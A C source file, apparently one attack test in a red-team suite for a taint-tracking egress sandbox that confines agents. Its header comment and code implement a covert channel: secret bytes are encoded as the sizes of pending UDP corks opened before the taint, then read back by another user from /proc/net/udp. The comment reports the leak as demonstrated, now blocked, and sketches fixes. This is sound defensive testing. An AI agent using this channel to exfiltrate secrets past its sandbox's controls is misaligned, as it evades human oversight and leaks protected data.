// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* udp_cork_pending - udp_cork_txq on UNCONNECTED UDP sockets: a cork opened before the taint
 * keeps taking data after it with no hook at all. Before its recv the agent (untainted) sends 1
 * byte with MSG_MORE and an address (the collector's UDP port) on each of CK_SOCKS unconnected
 * UDP sockets: the cgroup/sendmsg4 hook allows it (untainted), the byte stays corked (pending).
 * After its recv, on socket i it appends i * 256 + canary[i] bytes with send(MSG_MORE): while a
 * cork is pending udp_sendmsg goes straight to do_append_data, before the sendmsg4 hook; no
 * packet is made, so egress sees nothing either. Each append adds exactly its length to
 * sk_wmem_alloc; uid 65534 reads tx_queue of the agent's UDP sockets in /proc/net/udp,
 * subtracts the base (one corked byte on a socket of its own) and decodes index and byte.
 * Verifier: the bytes reassembled, compared with the canary.
 * Unlike udp_cork_txq no connected socket is involved: disconnecting the agent's connected UDP
 * sockets at the taint would not close this one.
 * Result before the fix: host (cgroup backend, 6.18): LEAKED in user and root mode; positive control verified.
 * Status: blocked: cgroup backend, mncd's sweep pushes out pending corks (UDP_CORK off) before
 * the delivery, and a new cork needs an address (sendmsg4); lsm backend, socket_sendmsg judges a
 * send with neither address nor peer as one to an unregistered destination.
 * Bandwidth: ~16 bits per socket corked before the taint (up to the fd limit); a flush (send
 * without MSG_MORE) ends the cork, and a new one needs an allowed destination, so: once.
 * Fix idea: at the taint, flush or drop the agent's pending UDP corks (mncd on its pidfd_getfd
 * copy: setsockopt UDP_CORK 0 pushes the pending frames, which egress then drops), or have the
 * launcher refuse MSG_MORE/UDP_CORK to agents; a network namespace per agent hides the table. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>

#include "atk.h"

#define CK_SOCKS 14 /* "mk" + 12 hex: one byte each */

static int agent(struct atk_ctx *c)
{
    static int s[CK_SOCKS];
    static char fill[CK_SOCKS * 256 + 256];
    long port = atk_argl(c, "udp4");
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons((uint16_t)(port > 0 ? port : 9)),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int conn = 0;
    for (int i = 0; i < CK_SOCKS; i++) {
        s[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long r = s[i] < 0 ? -1 : sendto(s[i], "x", 1, MSG_MORE, (struct sockaddr *)&to, sizeof(to));
        if (i == 0) {
            atk_try(c, "socket udp", s[i]);
            atk_try(c, "sendto the collector's udp4, 1 byte MSG_MORE (untainted, corked)", r);
        }
        conn += r == 1;
    }
    atk_note(c, "corked %d sockets before the taint", conn);
    atk_recv(c);
    size_t n = strlen(c->secret);
    int done = 0;
    for (int i = 0; i < CK_SOCKS && (size_t)i < n; i++) {
        size_t v = (size_t)i * 256 + (unsigned char)c->secret[i];
        long b = send(s[i], fill, v, MSG_MORE | MSG_DONTWAIT);
        if (i == 0)
            atk_try(c, "append with send(MSG_MORE), no address (tainted)", b);
        done += b == (long)v;
    }
    atk_note(c, "appended on %d sockets", done);
    atk_sync(c, "set"); /* the sockets stay open (corked) until the agent exits */
    return 0;
}

static int nobody_reads(struct atk_ctx *c, char *out, size_t n)
{
    /* the base: one corked byte on a socket of our own, to the same kind of destination */
    int m = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_in me;
    socklen_t ml = sizeof(me);
    if (m < 0 || connect(m, (struct sockaddr *)&to, sizeof(to)) != 0 || send(m, "x", 1, MSG_MORE) != 1 ||
        getsockname(m, (struct sockaddr *)&me, &ml) != 0)
        return 0;
    FILE *f = fopen("/proc/net/udp", "re");
    if (!f)
        return 0;
    char line[512], msg[CK_SOCKS + 1] = {0};
    unsigned base = 0;
    static unsigned tx[4096], uid[4096];
    int k = 0;
    if (!fgets(line, sizeof(line), f)) {
        fclose(f);
        return 0;
    }
    while (k < 4096 && fgets(line, sizeof(line), f)) {
        unsigned port, t, r, u;
        if (sscanf(line, " %*d: %*x:%x %*x:%*x %*x %x:%x %*x:%*x %*x %u", &port, &t, &r, &u) != 4)
            continue;
        if (port == ntohs(me.sin_port))
            base = t;
        tx[k] = t;
        uid[k++] = u;
    }
    fclose(f);
    for (int i = 0; base && i < k; i++) {
        if (uid[i] != (unsigned)c->agent_uid || tx[i] < base)
            continue;
        unsigned v = tx[i] - base;
        if (v / 256 < CK_SOCKS && v % 256 >= 0x20 && v % 256 < 0x7f)
            msg[v / 256] = (char)(v % 256);
    }
    snprintf(out, n, "%s", msg);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "set") != 0)
        return;
    char got[64] = {0};
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 read the canary from the tx_queue (sk_wmem_alloc) of the agent's unconnected UDP "
                        "sockets in /proc/net/udp: bytes it appended after the taint to corks opened before it");
}

static const struct atk A = {"udp_cork_pending",
                             "bytes appended after the taint to UDP corks opened before it (unconnected sockets), as "
                             "/proc/net/udp tx_queue shows",
                             ATK_NO_RECV,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
